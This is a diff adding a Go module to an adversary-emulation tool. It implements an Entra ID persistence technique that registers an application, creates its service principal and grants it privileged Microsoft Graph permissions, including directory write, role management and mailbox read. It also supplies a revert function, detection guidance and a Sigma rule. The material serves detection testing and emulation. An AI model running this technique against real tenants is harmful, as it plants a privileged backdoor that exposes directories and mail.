@@ -0,0 +1,161 @@
+package entraid
+
+import (
+	"context"
+	_ "embed"
+	"errors"
+	"github.com/datadog/stratus-red-team/internal/graph"
+	"github.com/datadog/stratus-red-team/pkg/stratus"
+	"github.com/datadog/stratus-red-team/pkg/stratus/mitreattack"
+)
+
+//go:embed main.tf
+var tf []byte
+
+//go:embed sigma.yml
+var sigma []byte
+
+const applicationName = "stratus-red-team-graph-application"
+
+// Microsoft Graph application permissions granted to the application
+var graphPermissions = map[string]string{
+	"Directory.ReadWrite.All":            "19dbc75e-c2e2-444c-a770-ec69d8559fc7",
+	"RoleManagement.ReadWrite.Directory": "9e3f62cf-ca93-4989-b6ce-bf83c28f9fe8",
+	"Mail.Read":                          "810c84a8-4a9e-49e6-bf7d-12d183f40d01",
+}
+
+func init() {
+	stratus.GetRegistry().RegisterAttackTechnique(&stratus.AttackTechnique{
+		ID:           "entra-id.persistence.register-application-with-graph-permissions",
+		FriendlyName: "Register an Application with Privileged Microsoft Graph Permissions",
+		Description: `
+Establishes persistence by registering a new application and granting it privileged Microsoft Graph application
+permissions, with admin consent. Anyone able to authenticate as the application can then read and modify the
+directory, assign directory roles, and read all mailboxes.
+
+Warm-up:
+
+- Look up the service principal of Microsoft Graph in the tenant
+
+Detonation:
+
+- Register the application <code>` + applicationName + `</code>, requesting the following Microsoft Graph application permissions:
+<code>Directory.ReadWrite.All</code>, <code>RoleManagement.ReadWrite.Directory</code> and <code>Mail.Read</code>
+- Create the service principal of the application
+- Grant admin consent for the permissions, by assigning the corresponding Microsoft Graph app roles to the service principal
+`,
+		Detection: `
+Through Entra ID audit logs, using the <code>Add application</code>, <code>Add service principal</code> and
+<code>Add app role assignment to service principal</code> activities.
+`,
+		SigmaRules:                 sigma,
+		Platform:                   stratus.EntraID,
+		IsIdempotent:               false, // a new application would be registered at each detonation
+		MitreAttackTactics:         []mitreattack.Tactic{mitreattack.Persistence, mitreattack.PrivilegeEscalation},
+		PrerequisitesTerraformCode: tf,
+		RequiredOutputs:            []string{"graph_service_principal_id"},
+		Detonate:                   detonate,
+		Revert:                     revert,
+		IsDetonated:                isDetonated,
+	})
+}
+
+func detonate(execution *stratus.ExecutionContext) error {
+	client, err := execution.EntraID.GetGraphClient()
+	if err != nil {
+		return err
+	}
+	ctx := execution.Context
+	graphServicePrincipalId := execution.Parameters["graph_service_principal_id"]
+
+	execution.Logger.Println("Registering application " + applicationName)
+	var resourceAccess []graph.ResourceAccess
+	for _, permissionId := range graphPermissions {
+		resourceAccess = append(resourceAccess, graph.ResourceAccess{Id: permissionId, Type: "Role"})
+	}
+	application := graph.Application{
+		DisplayName:            applicationName,
+		RequiredResourceAccess: []graph.RequiredResourceAccess{{ResourceAppId: graph.MicrosoftGraphAppId, ResourceAccess: resourceAccess}},
+	}
+	if err := client.Post(ctx, "/applications", application, &application); err != nil {
+		return errors.New("unable to register application: " + err.Error())
+	}
+
+	execution.Logger.Println("Creating service principal for application " + application.AppId)
+	var servicePrincipal graph.ServicePrincipal
+	if err := client.Post(ctx, "/servicePrincipals", graph.ServicePrincipal{AppId: application.AppId}, &servicePrincipal); err != nil {
+		return errors.New("unable to create service principal: " + err.Error())
+	}
+
+	for name, permissionId := range graphPermissions {
+		execution.Logger.Println("Granting admin consent for Microsoft Graph permission " + name)
+		appRoleAssignment := graph.AppRoleAssignment{
+			PrincipalId: servicePrincipal.Id,
+			ResourceId:  graphServicePrincipalId,
+			AppRoleId:   permissionId,
+		}
+		err := client.Post(ctx, "/servicePrincipals/"+graphServicePrincipalId+"/appRoleAssignedTo", appRoleAssignment, nil)
+		if err != nil {
+			return errors.New("unable to grant Microsoft Graph permission " + name + ": " + err.Error())
+		}
+	}
+
+	execution.Logger.Println("Application " + application.AppId + " now has privileged Microsoft Graph permissions")
+	return nil
+}
+
+func revert(execution *stratus.ExecutionContext) error {
+	client, err := execution.EntraID.GetGraphClient()
+	if err != nil {
+		return err
+	}
+	ctx := execution.Context
+
+	applications, err := listApplications(ctx, client)
+	if err != nil {
+		return err
+	}
+	for _, application := range applications {
+		// Deleting the service principal also removes its app role assignments
+		var servicePrincipals graph.ListResponse[graph.ServicePrincipal]
+		if err := client.Get(ctx, "/servicePrincipals"+graph.Filter("appId", application.AppId), &servicePrincipals); err != nil {
+			return errors.New("unable to list service principals: " + err.Error())
+		}
+		for _, servicePrincipal := range servicePrincipals.Value {
+			execution.Logger.Println("Deleting service principal " + servicePrincipal.Id)
+			if err := client.Delete(ctx, "/servicePrincipals/"+servicePrincipal.Id); err != nil {
+				return errors.New("unable to delete service principal: " + err.Error())
+			}
+		}
+
+		execution.Logger.Println("Deleting application " + application.AppId)
+		if err := client.Delete(ctx, "/applications/"+application.Id); err != nil {
+			return errors.New("unable to delete application: " + err.Error())
+		}
+	}
+
+	return nil
+}
+
+func isDetonated(execution *stratus.ExecutionContext) (bool, error) {
+	client, err := execution.EntraID.GetGraphClient()
+	if err != nil {
+		return false, err
+	}
+
+	applications, err := listApplications(execution.Context, client)
+	if err != nil {
+		return false, err
+	}
+	return len(applications) > 0, nil
+}
+
+// listApplications returns the applications registered by the technique
+func listApplications(ctx context.Context, client *graph.Client) ([]graph.Application, error) {
+	var applications graph.ListResponse[graph.Application]
+	err := client.Get(ctx, "/applications"+graph.Filter("displayName", applicationName), &applications)
+	if err != nil {
+		return nil, errors.New("unable to list applications: " + err.Error())
+	}
+	return applications.Value, nil
+}